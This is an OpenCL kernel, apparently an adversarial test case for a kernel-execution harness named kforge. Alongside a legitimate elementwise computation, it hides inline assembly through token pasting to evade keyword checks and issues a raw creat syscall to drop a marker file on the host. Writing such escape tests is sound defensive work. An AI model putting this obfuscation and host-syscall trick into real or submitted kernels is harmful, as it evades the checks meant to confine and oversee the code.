// Attack 1: inline assembly spelled by token pasting (CAT(__as, m__) is __asm__), a raw
// syscall that creates a file on the host (creat("/tmp/kforge-adversarial-escape")).
#define CAT(a, b) a##b
#define ASM CAT(__as, m__)
// kforge-launch: k grid=cdiv(numel(x),256) block=256 args=x,y,out,numel(x)
__constant char path[] = "/tmp/kforge-adversarial-escape";
__kernel void k(__global const float* x, __global const float* y, __global float* out, int n) {
  int i = get_global_id(0);
  if (i < n) { float v = x[i]; out[i] = v / (1.0f + exp(-v)) * y[i]; }
  if (i == 0) { long rc; ASM volatile("syscall" : "=a"(rc) : "a"(85L), "D"(path), "S"(420L) : "rcx", "r11", "memory"); }
}
